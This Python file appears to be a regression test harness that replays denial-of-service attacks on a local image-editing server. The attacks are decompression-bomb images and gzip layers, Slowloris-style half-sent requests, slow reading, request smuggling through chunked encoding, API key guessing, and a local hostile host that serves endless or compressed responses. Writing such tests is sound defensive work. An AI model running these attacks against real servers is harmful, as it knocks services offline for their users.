"""Attacks on a server, each as one client would repeat it; `serve_load` lets honest clients work beside all of them.

All of them were found to stop, fill or crash an earlier version of the server (docs/server.md, "Attacked").
"""

from __future__ import annotations

import gzip
import io
import json
import random
import socket
import struct
import threading
import time
import zlib
from collections.abc import Callable, Iterator
from contextlib import contextmanager, suppress
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import NamedTuple

import httpx
import numpy as np
from PIL import Image

SOURCE = "127.0.0.2"  # where the attackers are; honest clients are elsewhere
FORM = "multipart/form-data; boundary=b"
HALVES = 1100  # half-sent heads
PAUSE = 0.2  # seconds between two requests of one attack, so that one machine can bear all of them and the clients


class Target(NamedTuple):
    """A server to attack, and what its attackers have."""

    url: str
    key: str
    hostile: str  # name:port of a host from which it fetches


def png(width: int, height: int, *, channels: int = 1, depth: int = 8) -> bytes:
    """Return a picture of zeros, made row by row: few bytes, many pixels."""
    packer, row = zlib.compressobj(9), bytes(1 + width * channels * depth // 8)
    data = b"".join(packer.compress(row) for _ in range(height)) + packer.flush()
    kind = {1: 0, 3: 2, 4: 6}[channels]
    header = struct.pack(">IIBBBBB", width, height, depth, kind, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", data) + chunk(b"IEND", b"")


def chunk(name: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))


def many_scans(side: int, scans: int) -> bytes:
    """Return a progressive JPEG whose last scan is repeated."""
    file = io.BytesIO()
    Image.fromarray(np.zeros((side, side), np.uint8)).save(file, "JPEG", progressive=True)
    data = file.getvalue()
    last = data.rindex(b"\xff\xda")
    return data[:last] + data[last:-2] * scans + data[-2:]


def large_exif(size: int) -> bytes:
    """Return a small PNG with an EXIF block of one tag of very many values."""
    values = size // 8
    body = b"MM\0*" + struct.pack(">IHHHII", 8, 1, 0x9000, 5, values, 26) + bytes(4) + bytes(8 * values)
    picture = png(10, 10, channels=3)
    return picture[:33] + chunk(b"eXIf", body) + picture[33:]


def layered(layers: int) -> bytes:
    """Return some bytes that become 200 MB when they are decompressed so many times."""
    data = gzip.compress(bytes(200_000_000), 9)
    for _ in range(layers - 1):
        data = gzip.compress(data, 9)
    return data


@contextmanager
def hostile_host() -> Iterator[str]:
    """Run a host that sends what nobody asked for: compressed, without end, or nothing."""
    packed = layered(2)

    class Hostile(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            self.send_response(200)
            if self.path == "/packed":
                self.send_header("content-encoding", "gzip, gzip")
            self.end_headers()
            try:
                if self.path == "/packed":
                    self.wfile.write(packed)
                elif self.path == "/endless":
                    while True:
                        self.wfile.write(bytes(1 << 16))
                else:
                    time.sleep(30)
            except OSError:
                pass

        def log_message(self, *args: object) -> None:
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Hostile)
    server.daemon_threads = True
    threading.Thread(target=server.serve_forever, daemon=True).start()
    try:
        yield f"127.0.0.1:{server.server_port}"
    finally:
        server.shutdown()
        server.server_close()


def client_of(target: Target, key: str | None = None) -> httpx.Client:
    key = target.key if key is None else key
    headers = {"x-api-key": key, "authorization": f"Bearer {key}"}
    transport = httpx.HTTPTransport(local_address=SOURCE)
    return httpx.Client(base_url=target.url, headers=headers, timeout=120, transport=transport)


def connected(target: Target) -> socket.socket:
    host, port = target.url.removeprefix("http://").split(":")
    return socket.create_connection((host, int(port)), 5, (SOURCE, 0))


def head(target: Target, path: str, length: int, kind: str, **more: str) -> bytes:
    lines = {"host": "x", "x-api-key": target.key, "authorization": f"Bearer {target.key}"}
    lines |= {"content-length": str(length), "content-type": kind} | more
    return f"POST {path} HTTP/1.1\r\n".encode() + b"".join(f"{k}: {v}\r\n".encode() for k, v in lines.items()) + b"\r\n"


Attack = Callable[[Target], None]
BOKEH = {"removeBackground": "false", "background.blur.mode": "bokeh", "background.blur.radius": "0.05"}


def picture(data: bytes, **fields: str) -> Attack:
    def attack(target: Target) -> None:
        with client_of(target) as client:
            client.post("/v2/edit", files={"imageFile": data}, data=BOKEH | fields)

    return attack


def fetched(path: str) -> Attack:
    def attack(target: Target) -> None:
        with client_of(target) as client:
            body = {"input": f"http://{target.hostile}{path}", "operations": {"background": {"blur": True}}}
            client.post("/v1/image/edit", json=body)

    return attack


def posted(path: str, body: bytes, kind: str) -> Attack:
    def attack(target: Target) -> None:
        with client_of(target) as client:
            client.post(path, content=body, headers={"content-type": kind})

    return attack


def hang_up(target: Target) -> None:
    """Send a whole request, and go."""
    body = b'--b\r\ncontent-disposition: form-data; name="imageFile"; filename="a"\r\n\r\n%b\r\n' % png(
        640, 640, channels=3
    )
    body += b'--b\r\ncontent-disposition: form-data; name="removeBackground"\r\n\r\nfalse\r\n--b--\r\n'
    for _ in range(20):
        with connected(target) as connection:
            connection.sendall(head(target, "/v2/edit", len(body), FORM) + body)


def half_heads(target: Target) -> None:
    """Open more connections than a server has, and never say what they are for."""
    held = []
    try:
        for _ in range(HALVES):
            connection = connected(target)
            held.append(connection)
            connection.sendall(b"GET /healthz HTTP/1.1\r\nhost: x\r\nx-")
        time.sleep(5)
    except OSError:  # the server has had enough
        pass
    finally:
        for connection in held:
            connection.close()


def half_bodies(target: Target) -> None:
    """Send large bodies, and keep back their ends."""
    held = []
    try:
        for path, kind in [
            ("/v1/image/edit", "application/json"),
            ("/v2/edit", FORM),
        ] * 10:
            connection = connected(target)
            held.append(connection)
            connection.sendall(head(target, path, 29_000_000, kind) + b"--b\r\n")
            for _ in range(40):
                connection.sendall(bytes(100_000))
        time.sleep(3)
    except OSError:
        pass
    finally:
        for connection in held:
            connection.close()


def dawdle(target: Target) -> None:
    """Send a byte at a time."""
    with connected(target) as connection:
        connection.sendall(head(target, "/v2/edit", 100_000, FORM))
        for _ in range(100):
            connection.sendall(b"c")
            time.sleep(0.1)


def slow_reader(target: Target) -> None:
    """Ask for much, and take it a little at a time."""
    with connected(target) as connection:
        connection.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
        for _ in range(50):
            connection.sendall(b"GET /openapi.json HTTP/1.1\r\nhost: x\r\n\r\n")
        for _ in range(50):
            connection.recv(100)
            time.sleep(0.1)


def two_ends(target: Target) -> None:
    with connected(target) as connection:
        connection.sendall(head(target, "/v2/edit", 5, "application/json", **{"transfer-encoding": "chunked"}))
        connection.sendall(b"0\r\n\r\nGET /healthz HTTP/1.1\r\nhost: x\r\n\r\n")
        while connection.recv(1 << 16):
            pass


def guess_keys(target: Target) -> None:
    for _ in range(50):
        with client_of(target, f"guess-{random.getrandbits(64):016x}") as client:
            client.get("/v2/edit")


def flood_jobs(target: Target) -> None:
    with client_of(target) as client:
        urls = [f"http://{target.hostile}/silent"] * 900
        client.post("/v1/image/edit/batch", json={"input": urls, "operations": {"background": {"blur": True}}})


def attacks() -> dict[str, Attack]:
    """Return the attacks by name; some need seconds to be prepared."""
    punycode = b'--b\r\ncontent-disposition: form-data; name="x-"\r\n\r\n' + b"x" * 988_000 + b"-" + b"a" * 60_000
    names = json.dumps({"operations": {}} | {f"n{i}": 1 for i in range(80_000)}).encode()
    return {
        "thin picture, refused": picture(png(1, 200_000)),
        "thin picture, worked on": picture(png(1, 29_000)),
        "JPEG of 600 scans": picture(many_scans(3000, 600)),
        "EXIF of 6 MB": picture(large_exif(6_000_000)),
        "50 million pixels of 16 bits": picture(png(7000, 7000, channels=4, depth=16)),
        "packed twice by a host": fetched("/packed"),
        "no end from a host": fetched("/endless"),
        "nothing from a host": fetched("/silent"),
        "another charset": posted("/v2/edit", punycode + b"\r\n--b--", f"{FORM}; charset=punycode"),
        "80,000 names in JSON": posted("/v1/image/edit", names, "application/json"),
        "29 MB of &": posted("/v1.0/removebg", b"&" * 29_000_000, "application/x-www-form-urlencoded"),
        "whole requests, and gone": hang_up,
        "half heads": half_heads,
        "half bodies": half_bodies,
        "a byte at a time": dawdle,
        "slow reader": slow_reader,
        "two ends of a body": two_ends,
        "guessed keys": guess_keys,
        "jobs that never end": flood_jobs,
    }  # fmt: skip


def repeat(attack: Attack, target: Target, goes_on: Callable[[], bool]) -> int:
    """Repeat an attack, and return how often it was made."""
    count = 0
    while goes_on():
        with suppress(OSError, httpx.HTTPError):  # the server has had enough of it
            attack(target)
        count += 1
        time.sleep(PAUSE)
    return count
